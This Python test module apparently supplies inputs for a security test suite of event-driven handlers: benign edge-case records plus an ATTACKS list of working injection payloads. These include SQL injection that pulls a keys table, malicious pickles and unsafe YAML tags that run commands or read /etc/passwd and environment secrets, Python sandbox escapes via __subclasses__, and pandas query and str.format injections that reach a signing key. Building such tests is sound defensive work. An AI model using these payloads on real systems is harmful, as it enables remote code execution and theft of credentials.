"""Queues, streams, rules and reports."""

import base64
import pickle

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.sixth import (
    ARABIC,
    EMOJI,
    ESSAY,
    FORMULA,
    HTMLISH,
    IRISH,
    JSON_TEXT,
    LINK,
    MARKDOWN,
    PATHISH,
    PYTHONISH,
    QUOTED,
    REVIEW,
    SHELLISH,
    SQL_NOTE,
    TEMPLATISH,
    bus,
    http,
    kinesis,
    rest,
    sns,
    sqs,
    stream,
)

ID = "uid="
KEY = "pipeline-key-2727"


class _Runs:
    def __init__(self, call: str, *values: object) -> None:
        self.call, self.values = call, values

    def __reduce__(self) -> tuple[object, ...]:
        module, _, name = self.call.rpartition(".")
        return getattr(__import__(module, fromlist=[name]), name), self.values


def _pickled(value: object, protocol: int = 4) -> dict[str, object]:
    return kinesis(base64.b64encode(pickle.dumps(value, protocol)).decode())


def _raw(data: bytes) -> dict[str, object]:
    return kinesis(base64.b64encode(data).decode())


def _job(module: str, function: str, *args: object) -> dict[str, object]:
    return sqs({"module": module, "function": function, "args": args})


def _rule(rule: str, **facts: object) -> dict[str, object]:
    return bus("Check", {"rule": rule, "facts": facts})


def _region(region: str) -> dict[str, object]:
    return rest("GET", "/sales", query={"region": region})


def _filters(*filters: dict[str, object], sort: str = "amount") -> dict[str, object]:
    return http("POST", "/sales", {"filters": filters, "sort": sort})


def _lines(line: str) -> dict[str, object]:
    return {"format": line, "rows": [{"name": "O'Brien {x}", "amount": 2.5}]}


REQUESTS = {
    "queue_orders": [
        sqs({"id": "1", "customer": IRISH, "note": SQL_NOTE}, {"id": "2", "customer": QUOTED, "note": ESSAY}),
        sqs("not json; --", {"id": "3", "customer": EMOJI}),
        sqs({"id": "x' OR '1'='1", "customer": "Robert'); DROP TABLE orders;--", "note": JSON_TEXT}),
    ],
    "queue_jobs": [
        _job("jobs.totals", "mean", [1, 2, 3.5]),
        _job("jobs.totals", "join", ["os.system('id')", "__import__", IRISH]),
    ],
    "queue_tasks": [
        sqs({"task": "upper", "text": PYTHONISH}, {"task": "words", "text": SHELLISH}),
        sqs({"task": "__import__", "text": "os"}, {"task": "eval", "text": "1+1"}),
        sqs({"task": "count", "text": ESSAY}),
    ],
    "stream_index": [
        stream({"id": "1", "title": IRISH, "body": HTMLISH}, {"id": "2", "title": TEMPLATISH}),
        stream({"id": "a/../b", "query": JSON_TEXT, "path": PATHISH}),
        stream({"id": ARABIC, "snippet": PYTHONISH}, name="MODIFY"),
    ],
    "stream_audit": [
        stream({"id": "1", "title": "Tea (select; -- or update) 100%"}),
        stream({"id": "2", "title": EMOJI}, {"id": "3", "title": '"quoted" /* x */'}, name="REMOVE"),
    ],
    "clicks": [
        kinesis({"page": {"url": LINK}, "ua": "Mozilla/5.0 (X11; Linux) 'x'"}, {"page": {"url": LINK}}),
        kinesis({"page": {"url": "/search?q=<script>alert(1)</script>&p=../../x"}}),
    ],
    "sensor": [
        _pickled({"t": 21.5, "unit": "°C", "note": "os\nsystem"}),
        _pickled([("a", 1), ("b", IRISH)], 2),
        _pickled({"text": PYTHONISH, "raw": SHELLISH}, 5),
    ],
    # Honest by design though it runs code of the event.
    "rule": [
        _rule("amount > 100 and country in ('DE', 'FR')", amount=120, country="DE"),
        _rule("'; drop' in note or len_ == 0", note=SQL_NOTE, len_=0),
        _rule("not vip", vip=False),
    ],
    "choice": [
        {
            "tests": [
                {"path": "$.order.note", "op": "eq", "value": SQL_NOTE},
                {"path": "$.order.n", "op": "gt", "value": 1},
            ],
            "input": {"order": {"note": SQL_NOTE, "n": 2}},
        },
        {
            "tests": [{"path": "$.__class__.__mro__", "op": "ne", "value": "eval"}],
            "input": {"__class__": "first 'class'"},
        },
        {"tests": [{"path": "a", "op": "in", "value": [IRISH, "$(id)"]}], "input": {"a": IRISH}},
    ],
    "formula": [
        {"formula": "amount * 1.19 - -2"},
        {"formula": "__import__('os').getcwd()"},
        {"formula": "=SUM(A1:A9)"},
        {"formula": "(amount + 1) / 2"},
    ],
    "sales_by": [_region("north"), _region("south (or; else) -- all"), _region("east & west | @home")],
    "sales_bound": [
        _filters({"column": "region", "op": "query", "value": "O'Brien's"}),
        _filters({"column": "product", "op": "contains", "value": "; el"}, sort="product"),
        _filters(
            {"column": "amount", "op": "ge", "value": 10},
            {"column": "__class__", "op": "eq", "value": "x"},
            {"column": "region", "op": "query", "value": "@pd.io.common.os.system('id')"},
        ),
    ],
    "select_path": [
        {
            "path": "people[?age > `20` && contains(name, 'O')].{n: name, a: age}",
            "input": {"people": [{"name": IRISH, "age": 30}, {"name": "Oz", "age": 2}]},
        },
        {"path": "a.__class__ || 'it'", "input": {"a": {}}},
        {"path": 'sort_by(x, &y)[-1]."k\'ey"', "input": {"x": [{"y": 1, "k'ey": SHELLISH}]}},
        {"path": "'; drop", "input": {}},
    ],
    "lines": [
        _lines("{n:03d} {row.name:<20}|{row.amount:>8.2f} €"),
        _lines("100% {{literal}} $x `id` {row.name!r}"),
    ],
    "letters": [
        {
            "text": "Dear $name, you owe $$${sum}; {name} %s $unknown ${a.b}",
            "people": [{"name": IRISH, "sum": 5}, {"name": "$sum ${name}", "sum": "{{7*7}}"}],
        },
        {"text": ESSAY, "people": [{"name": HTMLISH}]},
    ],
    "settings": [
        sns("name: O'Brien\nsize: 3\ntags: [a, 'b; c']\n"),
        sns("script: |\n  import os\n  os.system('ls')\nuser: &u {a: 1}\nother: *u\n"),
        sns("when: 2024-02-29\nratio: 1e3\npython: 'tag:yaml.org,2002:python/object'\n"),
    ],
    "settings_safe": [
        sns("!!python/object/apply:os.system ['id']"),
        sns("run: >\n  make && make install; rm -rf build\n"),
        sns("a: !Ref Bucket"),
        sns(MARKDOWN.replace("# It", "It")),
    ],
    "log_filter": [
        {"pattern": r"(?:error|fail(?:ed)?)\b.*O'Brien$", "lines": ["Error of O'Brien", "ok", REVIEW]},
        {"pattern": r"\$\(id\)|`|;\s*--", "lines": [SHELLISH, SQL_NOTE, FORMULA]},
        {"pattern": r"^(\d{1,3}\.){3}\d+ .*\.\./", "lines": ["10.0.0.1 GET /../etc/passwd"]},
    ],
}
ATTACKS = [
    Attack("import", "queue_jobs", _job("subprocess", "getoutput", "id"), ID),
    Attack("import", "queue_jobs", _job("builtins", "eval", "__import__('os').popen('id').read()"), ID),
    Attack("import", "queue_jobs", _job("os", "listdir", "/etc"), "passwd"),
    Attack("import", "queue_jobs", _job("linecache", "getlines", "/etc/passwd"), "root:x:0"),
    Attack("import", "queue_jobs", _job("app", "__getattribute__", "SIGNING_KEY"), KEY),
    Attack(
        "SQL",
        "stream_audit",
        stream({"id": "1", "title": "' || (SELECT value FROM keys) || '"}),
        "audit-key-1881",
    ),
    Attack(
        "SQL",
        "stream_audit",
        stream({"id": "x', (SELECT group_concat(sql) FROM sqlite_master)) --", "title": "t"}),
        "CREATE TABLE keys",
    ),
    Attack(
        "SQL",
        "stream_audit",
        stream({"id": "1", "title": "a'), ('2', (SELECT hex(value) FROM keys)) --"}),
        "61756469742D6B65792D31383831",
    ),
    Attack("pickle", "sensor", _pickled(_Runs("subprocess.getoutput", "id")), ID),
    Attack(
        "pickle",
        "sensor",
        _pickled({"t": _Runs("builtins.eval", "open('/etc/passwd').read()")}, 2),
        "root:x:0",
    ),
    Attack("pickle", "sensor", _raw(b"csubprocess\ngetoutput\n(S'id'\ntR."), ID),
    Attack("pickle", "sensor", _raw(b"capp\nSIGNING_KEY\n."), KEY),
    Attack("pickle", "sensor", _raw(b"\x80\x04\x8c\x02os\x8c\x07environ\x93."), "AWS_SECRET_ACCESS_KEY"),
    Attack(
        "eval",
        "rule",
        _rule(
            "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['popen']('id').read()"
        ),
        ID,
    ),
    Attack(
        "eval",
        "rule",
        _rule("().__class__.__base__.__subclasses__()", a=1),
        "os._wrap_close",
    ),
    Attack(
        "eval",
        "rule",
        _rule(
            "[c.__init__.__globals__['sys'].modules['app'].SIGNING_KEY for c in [].__class__.__mro__[1].__subclasses__() if c.__name__ == '_wrap_close']"
        ),
        KEY,
    ),
    Attack("query", "sales_by", _region("x' or region != '"), "mug"),
    Attack(
        "query",
        "sales_by",
        _region("x' or @pd.read_csv(@pd.io.common.os.popen('id').read()) or region == 'x"),
        ID,
    ),
    Attack("query", "sales_by", _region("x' or @pd.read_csv(@SIGNING_KEY) or region == 'x"), KEY),
    Attack("query", "sales_by", _region("x' or amount > 29 or region == 'x"), "30"),
    Attack("str.format", "lines", _lines("{row.__init__.__globals__[SIGNING_KEY]}"), KEY),
    Attack(
        "str.format", "lines", _lines("{n} {row.__class__.__init__.__globals__[db]}"), "sqlite3.Connection"
    ),
    Attack("YAML", "settings", sns("!!python/object/apply:subprocess.getoutput ['id']"), ID),
    Attack(
        "YAML",
        "settings",
        sns(
            "!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , [\"open('/etc/passwd').read()\"]]]"
        ),
        "root:x:0",
    ),
    Attack("YAML", "settings", sns("key: !!python/name:app.SIGNING_KEY\n"), KEY),
    Attack(
        "YAML",
        "settings",
        sns(
            "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/new:subprocess.getoutput [cat /etc/passwd]\n"
        ),
        "root:x:0",
    ),
    Attack(
        "YAML",
        "settings",
        sns("- !!python/object/apply:builtins.eval [\"open('/etc/hosts').read()\"]"),
        "localhost",
    ),
]
